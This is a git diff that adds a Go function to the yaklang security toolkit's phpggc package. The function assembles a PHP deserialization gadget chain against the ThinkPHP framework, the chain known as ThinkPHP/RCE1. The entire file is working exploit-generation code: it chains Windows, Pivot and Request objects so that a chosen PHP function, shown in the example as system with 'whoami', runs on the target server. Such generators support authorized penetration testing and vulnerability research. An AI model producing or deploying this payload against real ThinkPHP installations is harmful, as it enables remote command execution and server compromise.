@@ -0,0 +1,43 @@
+package phpggc
+
+import (
+	"github.com/yaklang/yaklang/common/phpserx"
+)
+
+// GetThinkPHPRCE1Payload generate ThinkPHP/RCE1 chain, Windows::removeFiles converts Pivot to string, the appended attribute calls
+// Request::visible which is hooked to Request::isAjax, then the filter of Request is called with the param: function(parameter)
+// Example:
+// ```
+// payload = phpggc.GetThinkPHPRCE1Payload("system", "whoami")~
+// raw = phpggc.ToBytes(payload)~
+// ```
+func GetThinkPHPRCE1Payload(function string, parameter string) (*Payload, error) {
+	if err := checkFunction(function); err != nil {
+		return nil, err
+	}
+	request := phpserx.NewPHPObject(`think\Request`,
+		phpserx.NewPHPProtectedProperty("hook", phpserx.NewPHPArray()),
+		phpserx.NewPHPProtectedProperty("filter", phpserx.NewPHPString(function)),
+		phpserx.NewPHPProtectedProperty("mergeParam", phpserx.NewPHPBool(true)),
+		phpserx.NewPHPProtectedProperty("param", phpserx.NewPHPList(phpserx.NewPHPString(parameter))),
+		phpserx.NewPHPProtectedProperty("config", phpserx.NewPHPArray(
+			phpserx.NewPHPArrayEntry(phpserx.NewPHPString("var_ajax"), phpserx.NewPHPString("")),
+		)),
+	)
+	pivot := phpserx.NewPHPObject(`think\model\Pivot`,
+		phpserx.NewPHPProtectedProperty("append", phpserx.NewPHPArray(
+			phpserx.NewPHPArrayEntry(phpserx.NewPHPString("yak"), phpserx.NewPHPList(phpserx.NewPHPString("yak"))),
+		)),
+		phpserx.NewPHPPrivateProperty(`think\Model`, "data", phpserx.NewPHPArray(
+			phpserx.NewPHPArrayEntry(phpserx.NewPHPString("yak"), request),
+		)),
+	)
+	windows := phpserx.NewPHPObject(`think\process\pipes\Windows`,
+		phpserx.NewPHPPrivateProperty(`think\process\pipes\Windows`, "files", phpserx.NewPHPList(pivot)),
+	)
+	// the hook refers to the request itself: [$this, "isAjax"]
+	request.Properties[0].Value = phpserx.NewPHPArray(
+		phpserx.NewPHPArrayEntry(phpserx.NewPHPString("visible"), callable(phpserx.NewPHPRef(phpserx.FindRefIndex(windows, request)), "isAjax")),
+	)
+	return newPayload("ThinkPHP/RCE1", windows), nil
+}